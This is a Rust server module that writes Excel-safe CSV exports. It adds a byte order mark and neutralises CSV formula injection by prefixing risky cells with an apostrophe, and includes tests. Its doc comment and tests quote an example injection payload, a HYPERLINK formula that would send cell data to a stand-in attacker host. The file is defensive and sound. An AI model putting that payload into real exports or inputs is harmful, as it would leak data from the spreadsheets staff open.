//! CSV files for staff to open in Excel (server only): UTF-8 with a byte order
//! mark, so that Excel shows the Vietnamese, and no cell that Excel would run
//! as a formula. Every export writes through `CsvFile`.
//!
//! A resident can type `=HYPERLINK("https://evil.example/?"&B2,"Xem")` as a
//! survey answer or a report's text; written as it is, Excel runs it when staff
//! open the file (sending other cells away, or worse). A cell that starts with
//! `=`, `+`, `-`, `@`, a tab or a carriage return is therefore written with a
//! leading `'`, which Excel shows as text and hides; numbers stay numbers.

use crate::error::AppError;

const BOM: &[u8] = b"\xEF\xBB\xBF";

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a cell that no spreadsheet runs.
pub fn neutral(text: &str) -> std::borrow::Cow<'_, str> {
    let risky = text.starts_with(FORMULA_START);
    if risky && text.trim().parse::<f64>().is_err() {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// The cell as it was typed, from a file this app wrote (for imports of an
/// edited export): the `'` that `neutral` added comes off again.
pub fn typed(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_START) => rest,
        _ => cell,
    }
}

/// A CSV file being written.
pub struct CsvFile(csv::Writer<Vec<u8>>);

impl Default for CsvFile {
    fn default() -> Self {
        CsvFile::new()
    }
}

impl CsvFile {
    pub fn new() -> Self {
        CsvFile(csv::Writer::from_writer(BOM.to_vec()))
    }

    /// Writes one line; every cell neutralised.
    pub fn row<I, S>(&mut self, cells: I) -> Result<(), AppError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.0
            .write_record(
                cells
                    .into_iter()
                    .map(|cell| neutral(cell.as_ref()).into_owned()),
            )
            .map_err(failed)
    }

    /// The file's bytes.
    pub fn finish(self) -> Result<Vec<u8>, AppError> {
        self.0.into_inner().map_err(failed)
    }
}

fn failed(error: impl std::fmt::Display) -> AppError {
    tracing::error!(%error, "writing a CSV file");
    AppError::Internal
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text() {
        for risky in [
            "=HYPERLINK(\"https://evil.example/?\"&B2,\"Xem\")",
            "+84 cmd",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            let cell = neutral(risky);
            assert!(cell.starts_with('\''), "{risky}");
            assert_eq!(typed(&cell), risky);
        }
        for fine in ["Trạm y tế", "12.5", "-3", "-0.5", "", "a=b", "'quoted"] {
            assert_eq!(neutral(fine), fine);
            assert_eq!(typed(fine), fine);
        }
    }

    #[test]
    fn files_start_with_a_bom_and_hold_no_formula() {
        let mut file = CsvFile::new();
        file.row(["figure", "value"]).unwrap();
        file.row(["=1+1", "-7"]).unwrap();
        let bytes = file.finish().unwrap();
        assert!(bytes.starts_with(BOM));
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        assert_eq!(text, "figure,value\n'=1+1,-7\n");
    }
}
